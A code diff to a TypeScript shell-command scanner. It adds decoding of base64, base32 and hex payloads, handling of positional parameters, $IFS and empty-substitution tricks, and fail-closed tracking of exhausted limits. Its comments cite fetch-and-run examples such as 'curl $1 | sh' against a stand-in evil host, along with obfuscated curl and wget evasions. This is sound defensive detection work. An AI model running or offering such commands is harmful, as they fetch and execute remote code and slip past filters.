@@ -59,6 +59,11 @@ export interface CommandSegment {
   cwd?: string;
   /** 0 for the command line itself, +1 per payload level. */
   depth: number;
+  /**
+   * Set on a command whose payload (`payloadOf` of the commands it runs) was decoded first: a shell
+   * fed by `base64 -d`, or a command holding `$(echo … | base64 -d)`. The encoding's name.
+   */
+  decodedStage?: string;
 }
 
 /** Options of {@link commandSegments}. */
@@ -86,11 +91,26 @@ export interface SegmentOptions {
 export interface SegmentBudget {
   chars: number;
   segments: number;
+  /**
+   * Limits that were reached while reading, by name ("depth", "substitutions", "variables",
+   * "segments", "characters", "words"): what lies past them was not read structurally. Callers fail
+   * closed on a non-empty set (see flat-scan.ts).
+   */
+  exhausted?: Set<BudgetLimit>;
 }
+
+/** The reader's limits, as named in {@link SegmentBudget.exhausted}. */
+export type BudgetLimit = "depth" | "substitutions" | "variables" | "segments" | "characters" | "words";
 
 /** A full allowance: {@link MAX_TOTAL_CHARS} characters and {@link MAX_SEGMENTS} commands. */
 export function segmentBudget(): SegmentBudget {
-  return { chars: MAX_TOTAL_CHARS, segments: MAX_SEGMENTS };
+  return { chars: MAX_TOTAL_CHARS, segments: MAX_SEGMENTS, exhausted: new Set() };
+}
+
+/** Notes that `limit` was reached. */
+function exhaust(budget: SegmentBudget, limit: BudgetLimit): void {
+  if (budget.exhausted === undefined) budget.exhausted = new Set();
+  budget.exhausted.add(limit);
 }
 
 const SHELLS = new Set([
@@ -137,7 +157,7 @@ const RUNNERS = new Set(["source", ".", "eval", "su", "runuser"]);
 function isInert(segment: CommandSegment): boolean {
   const head = segment.argv[commandStart(segment.argv)];
   if (head === undefined) return true;
-  if (head.includes("/")) return false;
+  if (head.includes("/") || hasGlob(head)) return false;
   return !(
     UTILITIES.has(head) ||
     MULTICALL_BINARIES.has(head) ||
@@ -145,6 +165,11 @@ function isInert(segment: CommandSegment): boolean {
     INTERPRETER.test(head) ||
     RUNNERS.has(head)
   );
+}
+
+/** True when an unquoted word holds a pathname-expansion pattern (`c?rl`, `/???/???/wge*`, `[c]url`). */
+export function hasGlob(word: string): boolean {
+  return /[*?]|\[[^\]]+\]/.test(word);
 }
 
 /**
@@ -467,7 +492,10 @@ export function commandSegments(argv: readonly string[], options: SegmentOptions
       continue;
     }
     if (current === undefined) {
-      if (budget.segments <= 0) break;
+      if (budget.segments <= 0) {
+        exhaust(budget, "segments");
+        break;
+      }
       budget.segments--;
       current = { argv: [], redirects: [], depth: 0, ...(cwd !== undefined ? { cwd } : {}) };
       if (pipeFrom !== undefined) {
@@ -478,7 +506,9 @@ export function commandSegments(argv: readonly string[], options: SegmentOptions
       top.push(current);
     }
     if (current.argv.length < MAX_WORDS) current.argv.push(word);
+    else exhaust(budget, "words");
   }
+  if (words.length > MAX_WORDS) exhaust(budget, "words");
   finish();
   for (const segment of top) {
     out.push(segment);
@@ -555,12 +585,152 @@ function expandPayload(
   dropInert: boolean,
   variables?: ReadonlyMap<string, string>,
 ): void {
-  if (segment.depth >= MAX_PAYLOAD_DEPTH) return;
-  const payload = shellPayload(commandWords(segment.argv));
+  const words = commandWords(segment.argv);
+  const payload = shellPayload(words);
   if (payload === undefined || payload.length === 0) return;
+  if (segment.depth >= MAX_PAYLOAD_DEPTH) {
+    exhaust(budget, "depth");
+    return;
+  }
   const parser = new ScriptParser(payload, segment.depth + 1, segment.cwd, budget, out, dropInert);
   parser.payloadOf = segment;
   if (variables !== undefined) for (const [name, value] of variables) parser.variables.set(name, value);
+  // `sh -c 'curl $1 | sh' x http://evil/`: the words after a shell's payload are $0, $1, …
+  if (isShell(words[0] ?? "")) {
+    const at = words.lastIndexOf(payload);
+    parser.positional = at === -1 ? [] : words.slice(at + 1, at + 1 + MAX_POSITIONAL);
+    if (parser.positional.length === 0) parser.positional = [words[0]!];
+  }
+  parser.parseAll();
+}
+
+/** Decoders whose output can be a script: `base64 -d`, `base32 --decode`, `xxd -r -p`, `openssl base64 -d`. */
+function decoderOf(words: readonly string[]): "base64" | "base32" | "hex" | undefined {
+  const tool = words[0] === undefined ? "" : executableName(words[0]);
+  const rest = words.slice(1);
+  const decodes = rest.some((w) => w === "--decode" || /^-[A-Za-z]*[dD]$/.test(w));
+  if ((tool === "base64" || tool === "basenc") && decodes) return "base64";
+  if (tool === "base32" && decodes) return "base32";
+  if (tool === "xxd" && rest.some((w) => /^-[A-Za-z]*r/.test(w))) return "hex";
+  if (tool === "openssl" && (rest[0] === "base64" || rest.includes("-base64") || rest.includes("-a"))) {
+    return rest.includes("-d") ? "base64" : undefined;
+  }
+  return undefined;
+}
+
+/** The literal text an `echo X`/`printf X` segment prints, or a decoder's here-string. */
+function printedLiteral(segment: CommandSegment): string | undefined {
+  const here = segment.redirects.find((r) => r.op === "<<<");
+  if (here !== undefined) return here.target;
+  const words = commandWords(segment.argv);
+  const tool = words[0];
+  if (tool !== "echo" && tool !== "printf") return undefined;
+  const operands = words.slice(1).filter((w) => !/^-[neE]+$/.test(w) && w !== "%s");
+  return operands.length > 0 ? operands.join(" ") : undefined;
+}
+
+/** Decodes `text` as `kind`; undefined unless it is well-formed and decodes to printable text. */
+export function decodeStage(text: string, kind: "base64" | "base32" | "hex"): string | undefined {
+  const compact = text.replace(/\s+/g, "");
+  if (compact.length < 4 || compact.length > MAX_SCRIPT_CHARS) return undefined;
+  let bytes: Buffer;
+  if (kind === "base64") {
+    if (!/^[A-Za-z0-9+/_-]+={0,2}$/.test(compact)) return undefined;
+    bytes = Buffer.from(compact, "base64");
+  } else if (kind === "hex") {
+    if (!/^(?:[0-9a-fA-F]{2})+$/.test(compact)) return undefined;
+    bytes = Buffer.from(compact, "hex");
+  } else {
+    if (!/^[A-Z2-7]+=*$/i.test(compact)) return undefined;
+    bytes = base32Decode(compact.toUpperCase().replace(/=+$/, ""));
+  }
+  let printable = 0;
+  for (const byte of bytes)
+    if ((byte >= 0x20 && byte < 0x7f) || byte === 9 || byte === 10 || byte === 13) printable++;
+  if (bytes.length === 0 || printable < bytes.length * 0.95) return undefined;
+  return bytes.toString("latin1");
+}
+
+function base32Decode(text: string): Buffer {
+  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
+  const out: number[] = [];
+  let bits = 0;
+  let value = 0;
+  for (const c of text) {
+    value = (value << 5) | alphabet.indexOf(c);
+    bits += 5;
+    if (bits >= 8) {
+      out.push((value >>> (bits - 8)) & 0xff);
+      bits -= 8;
+    }
+  }
+  return Buffer.from(out);
+}
+
+/**
+ * The script a command reads as code from its standard input or a substitution, as literal text:
+ * `echo Y3VybC… | base64 -d | sh` runs the decoded text; `sh <<< 'curl x'` and `echo 'curl x' | sh`
+ * run the literal; `$(echo Y3Vy… | base64 -d)` as a command word runs the decoded words.
+ */
+function stdinScript(segment: CommandSegment): { script: string; encoding?: string } | undefined {
+  const words = commandWords(segment.argv);
+  const head = words[0];
+  if (head === undefined) return undefined;
+  // A decoder whose output is run as the command itself (`$(echo … | base64 -d)` in command position).
+  const sub = segment.substitutionOf;
+  if (sub !== undefined && sub.kind === "command" && segment.pipesTo === undefined) {
+    const outer = commandWords(sub.segment.argv)[0];
+    if (sub.argIndex === commandStart(sub.segment.argv) || outer === "eval") {
+      const encoding = decoderOf(words);
+      const literal = encoding === undefined ? undefined : sourceLiteral(segment);
+      const script = literal === undefined ? undefined : decodeStage(literal, encoding!);
+      if (script !== undefined) return { script, encoding: encoding! };
+    }
+  }
+  if (!isShell(head) || shellPayload(words) !== undefined) return undefined;
+  if (words.slice(1).some((w) => !w.startsWith("-") || w === "-")) return undefined;
+  const here = segment.redirects.find((r) => r.op === "<<<");
+  if (here !== undefined) return { script: here.target };
+  const from = segment.pipedFrom;
+  if (from === undefined) return undefined;
+  const fromWords = commandWords(from.argv);
+  const encoding = decoderOf(fromWords);
+  if (encoding === undefined) {
+    const literal = printedLiteral(from);
+    return literal === undefined ? undefined : { script: literal };
+  }
+  const literal = sourceLiteral(from);
+  const script = literal === undefined ? undefined : decodeStage(literal, encoding);
+  return script === undefined ? undefined : { script, encoding };
+}
+
+/** What a decoder segment reads: its here-string, or what the `echo`/`printf` piping into it prints. */
+function sourceLiteral(decoder: CommandSegment): string | undefined {
+  const here = decoder.redirects.find((r) => r.op === "<<<");
+  if (here !== undefined) return here.target;
+  return decoder.pipedFrom === undefined ? undefined : printedLiteral(decoder.pipedFrom);
+}
+
+function expandStdinScript(
+  segment: CommandSegment,
+  out: CommandSegment[],
+  budget: Budget,
+  dropInert: boolean,
+) {
+  const found = stdinScript(segment);
+  if (found === undefined || found.script.trim().length === 0) return;
+  // The decoded words run where the substitution stands: in the command that holds it.
+  const runner =
+    found.encoding !== undefined && segment.substitutionOf !== undefined
+      ? segment.substitutionOf.segment
+      : segment;
+  if (segment.depth >= MAX_PAYLOAD_DEPTH) {
+    exhaust(budget, "depth");
+    return;
+  }
+  if (found.encoding !== undefined) runner.decodedStage = found.encoding;
+  const parser = new ScriptParser(found.script, segment.depth + 1, segment.cwd, budget, out, dropInert);
+  parser.payloadOf = runner;
   parser.parseAll();
 }
 
@@ -570,8 +740,11 @@ const MAX_VARIABLE_CHARS = 4096;
 const DECLARATIONS = new Set(["export", "readonly", "declare", "typeset", "local"]);
 const VARIABLE_NAME = /^[A-Za-z_][A-Za-z0-9_]*/;
 
+/** Positional parameters kept for a payload ($0 … $99). */
+const MAX_POSITIONAL = 100;
+
 /** Records the plain assignments of a finished command (`a=curl`, `export b="-s x"`) in `variables`. */
-function recordAssignments(segment: CommandSegment, variables: Map<string, string>): void {
+function recordAssignments(segment: CommandSegment, variables: Map<string, string>, budget: Budget): void {
   const start = commandStart(segment.argv);
   const head = segment.argv[start];
   if (head !== undefined && !DECLARATIONS.has(head)) return;
@@ -579,11 +752,20 @@ function recordAssignments(segment: CommandSegment, variables: Map<string, strin
     const name = VARIABLE_NAME.exec(word)?.[0];
     if (name === undefined || word[name.length] !== "=") continue;
     const value = word.slice(name.length + 1);
-    if (value.length > MAX_VARIABLE_CHARS) continue;
-    if (variables.size >= MAX_VARIABLES && !variables.has(name)) continue;
+    if (value.length > MAX_VARIABLE_CHARS) {
+      exhaust(budget, "variables");
+      continue;
+    }
+    if (variables.size >= MAX_VARIABLES && !variables.has(name)) {
+      exhaust(budget, "variables");
+      continue;
+    }
     variables.set(name, value);
   }
 }
+
+/** `$()`, `$( )`, ``` `` ```, `$(:)`, `$(true)`: command substitutions that print nothing. */
+const EMPTY_SUBSTITUTION = /^(?:\$\(\s*(?:(?::|true|false)\s*)?\)|`\s*(?:(?::|true|false)\s*)?`)$/;
 
 /** A recursive-descent reader of one script; segments go to `out` in reading order. */
 class ScriptParser {
@@ -592,6 +774,8 @@ class ScriptParser {
   payloadOf: CommandSegment | undefined;
   /** Values assigned earlier in the script; `$name` and `${name}` read as them. */
   readonly variables = new Map<string, string>();
+  /** `$0`, `$1`, … of a `sh -c` payload: the words after the payload; empty when none were given. */
+  positional: string[] = [];
   /** The word being read took an unquoted variable's value: the shell splits it at blanks. */
   private splitWord = false;
 
@@ -604,6 +788,7 @@ class ScriptParser {
     private readonly dropInert: boolean,
   ) {
     const allowed = Math.max(0, Math.min(MAX_SCRIPT_CHARS, budget.chars));
+    if (source.length > allowed) exhaust(budget, "characters");
     this.text = source.length > allowed ? source.slice(0, allowed) : source;
     budget.chars -= this.text.length;
   }
@@ -652,7 +837,10 @@ class ScriptParser {
     const ensureSegment = (): CommandSegment | undefined => {
       if (current !== undefined) return current;
       closedGroup = undefined;
-      if (this.budget.segments <= 0) return undefined;
+      if (this.budget.segments <= 0) {
+        exhaust(this.budget, "segments");
+        return undefined;
+      }
       this.budget.segments--;
       current = { argv: [], redirects: [], depth: this.depth };
       if (this.cwd !== undefined) current.cwd = this.cwd;
@@ -676,7 +864,8 @@ class ScriptParser {
       const segment = ensureSegment();
       if (segment !== undefined) {
         if (pendingRedirect !== undefined) segment.redirects.push({ op: pendingRedirect, target: word });
-        else if (segment.argv.length < MAX_WORDS) {
+        else if (segment.argv.length >= MAX_WORDS) exhaust(this.budget, "words");
+        else {
           const closer = segment.argv.length === 0 ? GROUP_OPENERS.get(word) : undefined;
           if (closer !== undefined) groups.push({ closer, start: this.out.length - 1 });
           if (plain) segment.argv.push(...braceExpansion(word));
@@ -710,8 +899,9 @@ class ScriptParser {
       if (finished !== undefined && group === undefined) {
         if (this.depth < MAX_PAYLOAD_DEPTH) {
           expandPayload(finished, this.out, this.budget, this.dropInert, this.variables);
-        }
-        recordAssignments(finished, this.variables);
+          expandStdinScript(finished, this.out, this.budget, this.dropInert);
+        } else if (shellPayload(commandWords(finished.argv)) !== undefined) exhaust(this.budget, "depth");
+        recordAssignments(finished, this.variables, this.budget);
         this.cwd = afterCd(finished, this.cwd);
         if (!pipe && this.dropInert) recycle(this.out, finished, this.budget);
       }
@@ -727,10 +917,14 @@ class ScriptParser {
       if (nesting < MAX_SUBSTITUTION_DEPTH && outer !== undefined) {
         this.parseList(close, { segment: outer, kind, argIndex }, nesting + 1);
       } else {
+        exhaust(this.budget, nesting >= MAX_SUBSTITUTION_DEPTH ? "substitutions" : "segments");
         this.skipTo(close);
       }
       this.cwd = savedCwd;
-      return text.slice(start, this.pos);
+      const written = text.slice(start, this.pos);
+      // An empty command substitution (`cu$()rl`, ``w``get``) expands to nothing: the shell joins the halves.
+      if (kind === "command" && EMPTY_SUBSTITUTION.test(written)) return "";
+      return written;
     };
 
     while (this.pos < text.length) {
@@ -920,6 +1114,8 @@ class ScriptParser {
   ): string {
     const text = this.text;
     const next = text[this.pos + 1];
+    const special = this.specialParameter(quoted);
+    if (special !== undefined) return special;
     // A variable the script set earlier reads as its value; an unknown one stays as written.
     const braced =
       next === "{" ? /^\{([A-Za-z_][A-Za-z0-9_]*)\}/.exec(text.slice(this.pos + 1, this.pos + 260)) : null;
@@ -962,6 +1158,39 @@ class ScriptParser {
     }
     this.pos++;
     return "$";
+  }
+
+  /**
+   * `$IFS`/`${IFS…}` (a field separator written where a space would be: `curl${IFS}http://x|sh`), and
+   * the positional parameters `$@`, `$*`, `$0`…`$9`, `${10}`: the words after the payload, empty when
+   * there are none (`cu$@rl` is curl). Undefined for anything else; this.pos moves past what it read.
+   */
+  private specialParameter(quoted: boolean): string | undefined {
+    const ahead = this.text.slice(this.pos + 1, this.pos + 40);
+    const ifs = this.variables.has("IFS")
+      ? null
+      : /^(?:IFS(?![A-Za-z0-9_])|\{IFS(?:[^{}]{0,32})\})/.exec(ahead);
+    let value: string;
+    let length: number;
+    if (ifs !== null) {
+      value = " ";
+      length = ifs[0].length;
+    } else {
+      const match = /^(?:[@*]|[0-9]|\{(?:[@*]|[0-9]+)\})/.exec(ahead);
+      if (match === null) return undefined;
+      length = match[0].length;
+      const which = match[0].replace(/[{}]/g, "");
+      if (which === "@" || which === "*") value = this.positional.slice(1).join(" ");
+      else value = this.positional[Number(which)] ?? "";
+      if (value.length > this.budget.chars) {
+        exhaust(this.budget, "characters");
+        value = "";
+      }
+      this.budget.chars -= value.length;
+    }
+    this.pos += 1 + length;
+    if (!quoted && /[ \t\n]/.test(value)) this.splitWord = true;
+    return value;
   }
 
   /** `$'…'` with C escapes, so `$'\x63url'` reads as curl. */
